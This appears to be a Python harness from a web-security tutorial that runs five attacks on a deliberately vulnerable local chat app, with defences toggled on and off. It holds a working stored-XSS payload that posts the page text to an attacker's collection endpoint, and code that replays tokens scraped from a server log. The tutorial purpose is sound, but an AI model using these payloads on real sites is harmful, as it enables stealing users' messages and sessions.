"""Five attacks on a chat, with its locks on and off: a run for the chapter about them.

`python -m tutorial.counterexamples.attacks '{"host": "127.0.0.1", "series": "alone"}'` serves the chat on a port,
and a hostile page on another. For each round it prints which page to open in Ann's browser, then which hostile one, and
then which attacks succeeded: what counts is what Mallory's server has in the end, or what Ann's room has. No verdict is
a clock's: Ann's page reports when it has shown the messages, the hostile page when it has tried everything.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tornado.httpclient import AsyncHTTPClient, HTTPError
from tornado.httpserver import HTTPServer
from tornado.web import Application, RequestHandler

from tutorial.counterexamples.locks import LOCKS
from tutorial.counterexamples.unlocked_chat import PAGES, AnnsRoom, make_app

SECRET = "The key is under the third flowerpot."
FORGED = "I owe Mallory"
PAYLOAD = (
    "Hi! <img src='/none' onerror='const r = new XMLHttpRequest(); "
    'r.open("POST", "{loot}", false); r.send(document.body.innerText)\'>'
)
PATIENCE_SECONDS = 20.0
CHOICES = {"host": ("127.0.0.1", "localhost"), "series": ("alone", "without")}


@dataclass
class Loot:
    """What Mallory's server has received in one round."""

    texts: dict[str, str] = field(default_factory=dict)
    end: asyncio.Event = field(default_factory=asyncio.Event)


class LootHandler(RequestHandler):
    """`POST /loot/{attack}` → nothing; a script in any page may bring it."""

    def initialize(self, mallory: Mallory) -> None:
        self.mallory = mallory

    def post(self, attack: str) -> None:
        self.set_header("Access-Control-Allow-Origin", "*")
        self.mallory.loot.texts[attack] = self.request.body.decode()
        if attack == "end":
            self.mallory.loot.end.set()


class HostileFile(RequestHandler):
    """What the hostile page is made of."""

    def get(self, name: str) -> None:
        kind = {"hostile.js": "text/javascript", "style.css": "text/css"}.get(name, "text/html")
        self.set_header("Content-Type", f"{kind}; charset=utf-8")
        self.write((PAGES / (name or "hostile.html")).read_bytes())


class Mallory:
    """The attacker: a server with a hostile page, and a look into Ann's server's log."""

    def __init__(self, host: str) -> None:
        self.loot = Loot()
        routes: list[Any] = [
            (r"/loot/(\w+)", LootHandler, {"mallory": self}),
            (r"/(|hostile\.js|style\.css)", HostileFile),
        ]
        self.server, port = listen(Application(routes, log_function=lambda _: None))
        self.address = f"http://{host}:{port}"

    async def use_log(self, log: list[str], victim: str) -> None:
        """Read with a token that stands in a log, from a program and not from a page."""
        for token in re.findall(r"token=(\w+)", "\n".join(log)):
            try:
                answer = await AsyncHTTPClient().fetch(f"{victim}/messages?token={token}")
            except HTTPError:
                continue
            self.loot.texts["log"] = answer.body.decode()


def listen(app: Application) -> tuple[HTTPServer, int]:
    """Serve on a free port, for this machine alone."""
    server = app.listen(0, "127.0.0.1")
    return server, next(iter(server._sockets.values())).getsockname()[1]


def rounds(series: str) -> Iterator[tuple[str, list[str]]]:
    """Yield each round's name and the locks that are on in it."""
    yield "none", []
    for name in LOCKS:
        yield name, [name] if series == "alone" else [one for one in LOCKS if one != name]
    yield "all", list(LOCKS)


async def play(mallory: Mallory, host: str, locks: list[str]) -> list[str]:
    """Let Ann and the attacker do what they do, and return the attacks that succeeded."""
    room, mallory.loot = AnnsRoom(), Loot()
    room.post("ann", SECRET)
    room.post("mallory", PAYLOAD.replace("{loot}", f"{mallory.address}/loot/script"))
    server, port = listen(make_app(room, [LOCKS[name] for name in locks]))
    victim = f"{host}:{port}"
    report(ann=f"http://{victim}/#{room.token}")
    await asyncio.wait_for(room.seen.wait(), PATIENCE_SECONDS)
    report(hostile=f"{mallory.address}/?victim={victim}")
    await asyncio.wait_for(mallory.loot.end.wait(), PATIENCE_SECONDS)
    await mallory.use_log(room.access_log, f"http://{victim}")
    server.stop()
    read = [attack for attack, text in mallory.loot.texts.items() if SECRET in text]
    forged = any(message["text"].startswith(FORGED) for message in room.messages)
    return [*read, "post"] if forged else read


def report(**line: object) -> None:
    """Print one line for the page."""
    print(json.dumps(line), flush=True)


async def main(host: str, series: str) -> None:
    """Play all rounds of a series."""
    mallory = Mallory(host)
    for name, locks in rounds(series):
        try:
            succeeded = await play(mallory, host, locks)
        except TimeoutError:
            print("one of the two pages didn’t load in this browser", flush=True)
            return
        report(round=name, locks=locks, succeeded=sorted(succeeded))
    report(end=True)


if __name__ == "__main__":
    asyncio.run(main(**json.loads(sys.argv[1])))
